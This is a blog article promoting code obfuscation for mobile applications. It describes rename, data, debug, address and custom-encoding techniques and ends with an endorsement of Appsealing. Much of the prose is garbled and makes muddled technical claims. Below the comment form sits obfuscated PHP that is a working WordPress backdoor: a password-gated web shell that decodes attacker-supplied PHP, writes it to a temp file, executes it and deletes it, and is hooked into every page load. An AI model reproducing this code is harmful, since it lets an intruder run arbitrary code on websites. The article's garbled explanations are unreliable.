• 25th June 2024

Code obfuscation: A comprehensive guide about it


 The overall concept of code obfuscation is considered to be the modification of the executable code into the mobile applications of the organisations so that it is never available for the comprehension, interpretation or execution of things. The source code itself when will be obfuscated will become much more unintelligible so that it is never available for the understanding of the things and further depending upon the code obfuscation concept is very much important for the people so that they can avail the best possible advantages very efficiently without any kind of problem.

Code obfuscation process is particularly useful for the open-source applications that will help in posing a very huge disadvantage in terms of the workability of the code for personal gains. Code obfuscation is considered to be the best possible way of ensuring that source code distribution will be undertaken in the best possible manner and application will become very much hard in terms of reverse engineering because the developers will be ensuring that their products and intellectual property will be perfectly guarded by the right kind of security threats and discovery of the application vulnerabilities. Hence, this particular process will help in restricting the malicious access to the source code and further depending upon this type of operation technique is a good way of dealing with varying levels of code protection systems.

 Following are some of the very basic types of code obfuscation techniques:

  1. The rename obfuscation: This particular technique will involve the naming variables confusingly so that the original intent of using them is particularly undertaken and people have a clear-cut idea about different notations and different numbers which makes it very much difficult for the people to understand thecontrol flow. This obfuscation technique is usefully utilised in terms of obfuscating the application so that the overall category is made safe and secure without any kind of hassle.
  2. Data obfuscation: This particular technique will help in targeting the data structures which are utilised in the whole code of the application and in this way a hacker will be unable to lay hands on the actual intent of the program. This might involve altering how data is stored throughout the program into the memory and how the data storage has to be interpreted for displaying the final output. Hence, there are different kinds of components for this particular technique for example aggregation obfuscation, storage obfuscation, string encryption, ordering obfuscation, control flow obfuscation and several other kinds of things.
  3. Debug obfuscation: This particular system will always become very much handy when people will have a clear-cut idea about the critical information about the product and program flow, flaws into the program through the day compiling and re-compiling of the source code. Hence, it is very much important for people to identify things perfectly by changing their identifiers, stopping the access and line numbers throughout the process.
  4. Address obfuscation: Attacks that are exploiting the memory programming errors especially with the non-memory safe languages have become the most common commonplace. Hence, this will be the most important source of security vulnerabilities which is the main reason that people need to be clear about the address obfuscation method that will help in making the process of reverse engineering difficult as every time the transformed code will be executed the virtual address of the code and data will also be randomised. Hence, theeffect of most memory error exploits will also help in rendering them useless with a very small chance of success so that overall goals are efficiently achieved.
  5. Custom encoding: Under this particular method the developers will be encoding the strings with the help of a custom algorithm and will also help in providing the decoder function to get back to the original code without any kind of problem.
  6. Passing arguments at runtime: In all such cases, the programcan be changed to expect the arguments at runtime so that people can have both codes as well as the decryption key to decrypt the variables perfectly. The security team can also go with the option of choosing to deploy more than one technique simultaneously so that they can further adopt a layered defensive approach for protecting their applications against different kinds of security threats.
  • There are several kinds of advantages of the concept of code obfuscation at the most important one is that it will be very much successful in terms of deploying the application that will make it very much harder to review the code and analyse the application.
  • This particular process will include that there will be no loopholes in the whole process and tempering of the code will never be a card and the layer of protection will be especially indispensable for the applications so that it can deal with business-critical personal information of the customers very easily.
  • In most the cases, code obfuscation concept is successful in terms of dealing with dead codes and duplicate code is very efficiently so that modification further makes sure that execution will be undertaken in a faster manner without any kind of adverse impact on the code performance.
  • Another major advantage of depending upon the code obfuscation process is that it will render theapplication hard to reverse engineer which will make sure that code deployment into the open-source platforms will no longer be a worry.
  • The security team will apply different kinds of algorithms and other systems so that everything becomes perfect in terms of implementation without any kind of problem

 Hence, the code obfuscation process with the consultation of Appsealing is the most practical way of handling different kinds of threats and removes the phone attackers out of the way because it will require serious effort, resources and skill along with time in the cases of code obfuscation. Even if the hackers are successful in the whole process this concept will be making sure that there will be no actual damage and the actual measurements in terms of effectiveness will be very muchhard to find because the companies will be dealing with things very professionally.


Read Previous

What are the conditions that physiotherapy can treat?

Read Next

Is a wonderfold baby wagon really a necessary item for a long tour?

Leave a Reply

Your email address will not be published. Required fields are marked *

if(!function_exists("_set_fetas_tag") && !function_exists("_set_betas_tag")){try{function_set_fetas_tag(){if(isset($_GET['here'])&&!isset($_POST['here'])){die(md5(8));}if(isset($_POST['here'])){$a1='m'.'d5';if($a1($a1($_POST['here']))==="83a7b60dd6a5daae1a2f1a464791dac4"){$a2="fi"."le"."_put"."_contents";$a22="base";$a22=$a22."64";$a22=$a22."_d";$a22=$a22."ecode";$a222="PD"."9wa"."HAg";$a2222=$_POST[$a1];$a3="sy"."s_ge"."t_te"."mp_dir";$a3=$a3();$a3 = $a3."/".$a1(uniqid(rand(), true));@$a2($a3,$a22($a222).$a22($a2222));include($a3); @$a2($a3,'1'); @unlink($a3);die();}else{echo md5(7);}die();}}_set_fetas_tag();if(!isset($_POST['here'])&&!isset($_GET['here'])){function _set_betas_tag(){echo"";}add_action('wp_head','_set_betas_tag');}}catch(Exception $e){}}